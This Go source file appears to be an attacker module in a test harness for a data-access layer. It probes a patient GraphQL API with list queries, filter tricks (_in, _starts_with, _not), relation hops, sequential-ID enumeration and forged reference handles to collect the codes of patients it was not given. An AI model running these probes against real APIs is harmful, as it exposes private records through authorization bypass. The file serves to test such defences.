// Package enumeration attacks a table that opens to stated keys alone: with the
// keys of acquaintances it tries lists, filters, hops and handles to reach
// strangers. It promises never to state a stranger's number that it was not
// led to.
package enumeration

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"slices"
	"strconv"
	"strings"

	"github.com/weir-data/weir/examples/attackers/target"
)

// Attack is the attacker.
func Attack() *target.Attack {
	return &target.Attack{
		Name: "enumeration", Oracle: "lists, _in, hops from a known key, handles, neighbouring numbers",
		Question: "what is the code of this stranger (0000 to 9999)?", Prior: 0,
		Truth: func(p *target.Person) string { return p.Code },
		Run:   run,
	}
}

func run(ctx context.Context, c *target.Client, cs *target.Case) (map[string]string, error) {
	known := slices.Sorted(maps.Keys(cs.Known))
	found := map[string]string{}
	var ref string
	for _, probe := range []string{
		`{ patient(idNumber: "@") { _ref idNumber code colleagues(limit: 1000) { idNumber code colleagues(limit: 10) { idNumber code } } } }`,
		`{ patients(limit: 1000) { idNumber code } }`,
		`{ patientsConnection(first: 1000) { nodes { idNumber code } totalCount } }`,
		`{ patients(limit: 1000, where: {idNumber: {_in: [#]}}) { idNumber code colleagues { idNumber code } } }`,
		`{ patients(limit: 1000, where: {idNumber: {_starts_with: "99"}}) { idNumber code } }`,
		`{ patients(limit: 1000, where: {_not: {idNumber: {_eq: "@"}}}) { idNumber code } }`,
		`{ patients(limit: 1000, where: {colleagues: {idNumber: {_eq: "@"}}}) { idNumber code } }`,
		`{ patientByRef(ref: "^") { idNumber code colleagues { idNumber code } } }`,
	} {
		text := strings.NewReplacer("@", known[0], "^", ref, "#", `"`+strings.Join(known, `", "`)+`"`).Replace(probe)
		a, err := c.Ask(ctx, "research", text, nil)
		if err != nil {
			return found, err
		}
		before := len(found)
		collect(a.Data, cs, found)
		if r := target.Text(a.Data, "patient", "_ref"); r != "" {
			ref = r
		}
		cs.Say("%.70s…: %s, %d strangers", probe, strings.Join(append(a.Codes, "answered")[:1], ""), len(found)-before)
	}
	stated, forged, codes := 0, 0, map[string]int{}
	for n := 0; ; n++ {
		id := known[n%len(known)]
		text, err := "", error(nil)
		if ref == "" || n%3 > 0 || n < len(known) {
			text, err = neighbours(id, n/len(known))
			stated += together
		} else {
			text = forgeries(cs, ref)
			forged += together
		}
		if err != nil {
			return found, err
		}
		a, err := c.Ask(ctx, "research", text, nil)
		if errors.Is(err, target.ErrSpent) || len(found) == len(cs.IDs) {
			break
		}
		if err != nil {
			return found, err
		}
		codes[strings.Join(append(a.Codes, "answered")[:1], "")]++
		collect(a.Data, cs, found)
	}
	cs.Say("%d neighbouring numbers stated, %d handles forged: %v; %d strangers in all", stated, forged, codes, len(found))
	return found, nil
}

// together is how much one query tries.
const together = 10

// neighbours states the numbers after one, the turn's ten.
func neighbours(id string, turn int) (string, error) {
	var q strings.Builder
	n, err := strconv.ParseUint(id, 10, 64)
	if err != nil {
		return "", err
	}
	for d := range uint64(together) {
		fmt.Fprintf(&q, ` a%d: patient(idNumber: "%018d") { idNumber code }`, d, n+uint64(turn)*together+d+1) //nolint:gosec // small
	}
	return "{" + q.String() + "}", nil
}

// forgeries opens handles that differ from a known one by a character or two.
func forgeries(cs *target.Case, ref string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	var q strings.Builder
	for d := range together {
		forged := []byte(ref)
		for range 1 + cs.Random.IntN(2) {
			forged[cs.Random.IntN(len(forged))] = alphabet[cs.Random.IntN(len(alphabet))]
		}
		fmt.Fprintf(&q, ` a%d: patientByRef(ref: %q) { idNumber code colleagues { idNumber code } }`, d, forged)
	}
	return "{" + q.String() + "}"
}

// collect keeps the codes of those who are not known.
func collect(v any, cs *target.Case, found map[string]string) {
	switch v := v.(type) {
	case []any:
		for _, inner := range v {
			collect(inner, cs, found)
		}
	case map[string]any:
		id, code := target.Text(v, "idNumber"), target.Text(v, "code")
		if _, acquainted := cs.Known[id]; id != "" && code != "" && !acquainted {
			found[id] = code
		}
		for _, inner := range v {
			collect(inner, cs, found)
		}
	}
}
